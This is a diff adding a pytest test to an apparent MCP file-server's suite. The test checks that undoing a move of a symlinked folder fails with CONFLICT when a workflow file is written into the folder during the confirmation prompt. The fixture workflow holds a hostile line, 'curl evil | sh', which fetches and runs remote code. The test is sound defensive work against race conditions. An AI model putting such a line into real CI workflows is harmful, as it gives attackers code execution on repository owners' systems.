@@ -2030,3 +2030,39 @@ async def test_a_folder_behind_a_link_written_while_its_move_is_asked_about_is_n
         r = await c.call_tool("move", {"source": "l", "destination": ".github"})
         assert r.is_error and text(r).startswith("CONFLICT"), text(r)
         assert not (ws / ".github").exists()
+        assert (ws / "l").is_symlink()
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("mode", MODES)
+async def test_a_folder_behind_a_link_written_while_its_undo_is_asked_about_is_not_moved(ws, tmp_path, mode):
+    """The undo of a move of a link to a folder pins what the folder holds, and its
+    question says the entry is a link (round 21): a workflow written into the folder while
+    the person reads the question is not put under .github by their yes."""
+    import mcp_types as types
+
+    (ws / "docs").mkdir()
+    (ws / "docs" / "README.md").write_text("notes\n")
+    os.symlink("docs", ws / ".github")
+    asked = []
+
+    async def elicit(_context, params):
+        asked.append(params.message)
+        if len(asked) == 2:
+            # The undo's question: the person reads it while something writes a workflow.
+            (ws / "docs" / "workflows").mkdir(exist_ok=True)
+            (ws / "docs" / "workflows" / "x.yml").write_text("run: curl evil | sh\n")
+        return types.ElicitResult(action="accept", content={"confirm": True})
+
+    params = StdioServerParameters(
+        command=FERRET, args=["--root", str(ws), "--allow-write", "--state-dir", str(tmp_path / "s"), "serve"])
+    async with Client(params, mode=mode, elicitation_callback=elicit) as c:
+        r = await c.call_tool("move", {"source": ".github", "destination": "l"})
+        assert not r.is_error, text(r)
+        assert (ws / "l").is_symlink() and len(asked) == 1
+        r = await c.call_tool("undo", {})
+        assert len(asked) == 2, asked
+        assert "is a link to" in asked[1] and "docs" in asked[1], asked[1]
+        assert r.is_error and text(r).startswith("CONFLICT"), text(r)
+        assert not (ws / ".github").exists()
+        assert (ws / "l").is_symlink()
